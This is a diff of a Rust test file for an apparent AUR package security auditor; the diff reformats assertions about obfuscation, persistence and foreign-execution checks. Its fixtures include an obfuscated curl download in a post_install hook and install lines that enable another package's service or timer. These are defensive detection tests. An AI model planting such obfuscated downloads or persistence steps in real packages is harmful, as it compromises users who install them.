@@ -403,7 +403,11 @@ fn a_triple_quoted_message_glues_nothing() {
         "desk-config",
         "post_install() {\n  c\"\"u\"\"r\"\"l -s https://example.org/x -o /tmp/x\n}\n",
     ));
-    assert!(max_of(&r, "AUR-OBFUSCATION") >= Some(Severity::Medium), "{}", r.to_text());
+    assert!(
+        max_of(&r, "AUR-OBFUSCATION") >= Some(Severity::Medium),
+        "{}",
+        r.to_text()
+    );
 }
 
 // Class: the working directory after a heredoc: `cd "$pkgdir/usr/bin"` then two launchers
@@ -436,7 +440,12 @@ fn the_projects_own_organisation_and_a_local_file_named_like_it() {
         "source=(\"src::git+https://codeberg.org/forkfox/source-next.git#tag=1.0\"\n        \"forkfox-testing.install\")\nsha256sums=('SKIP' '0f9e8d7c6b5a49382716f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a0')",
         "prepare() {\n  cd src\n  python3 scripts/apply-patches.py 1.0\n}\npackage() {\n  true\n}\n",
     ));
-    assert_eq!(max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"), None, "{}", r.to_text());
+    assert_eq!(
+        max_of(&r, "AUR-SOURCE-FOREIGN-EXEC"),
+        None,
+        "{}",
+        r.to_text()
+    );
     assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
 }
 
@@ -459,12 +468,23 @@ fn rc_update_of_the_packages_own_service_is_low_like_systemctl_enable() {
             srcinfo: None,
         })
     };
-    let r = run("post_install() {\n  rc-update add watchd default\n}\npost_upgrade() {\n  rc-update -a del watchdd\n}\n");
-    assert!(max_of(&r, "AUR-PERSISTENCE") <= Some(Severity::Low), "{}", r.to_text());
+    let r = run(
+        "post_install() {\n  rc-update add watchd default\n}\npost_upgrade() {\n  rc-update -a del watchdd\n}\n",
+    );
+    assert!(
+        max_of(&r, "AUR-PERSISTENCE") <= Some(Severity::Low),
+        "{}",
+        r.to_text()
+    );
     assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
     // Another package's service, not in depends, is still high.
     let r = run("post_install() {\n  rc-update add sshd default\n}\n");
-    assert_eq!(max_of(&r, "AUR-PERSISTENCE"), Some(Severity::High), "{}", r.to_text());
+    assert_eq!(
+        max_of(&r, "AUR-PERSISTENCE"),
+        Some(Severity::High),
+        "{}",
+        r.to_text()
+    );
 }
 
 // Class: a project's library package (`libNAME`) enabling the project's own timer (`NAME-…`)
@@ -478,12 +498,21 @@ fn a_library_package_enabling_its_projects_timer_is_low() {
         "libpkgtool",
         "post_install() {\n  ln -sf /usr/lib/systemd/system/pkgtool-cleancache.timer /etc/systemd/system/timers.target.wants/pkgtool-cleancache.timer\n}\n",
     ));
-    assert!(max_of(&r, "AUR-PERSISTENCE") <= Some(Severity::Low), "{}", r.to_text());
+    assert!(
+        max_of(&r, "AUR-PERSISTENCE") <= Some(Severity::Low),
+        "{}",
+        r.to_text()
+    );
     assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
     // Another project's timer is still outside the package.
     let r = audit(&with_script(
         "libpkgtool",
         "post_install() {\n  ln -sf /usr/lib/systemd/system/other-sync.timer /etc/systemd/system/timers.target.wants/other-sync.timer\n}\n",
     ));
-    assert_eq!(max_of(&r, "AUR-PERSISTENCE"), Some(Severity::High), "{}", r.to_text());
+    assert_eq!(
+        max_of(&r, "AUR-PERSISTENCE"),
+        Some(Severity::High),
+        "{}",
+        r.to_text()
+    );
 }
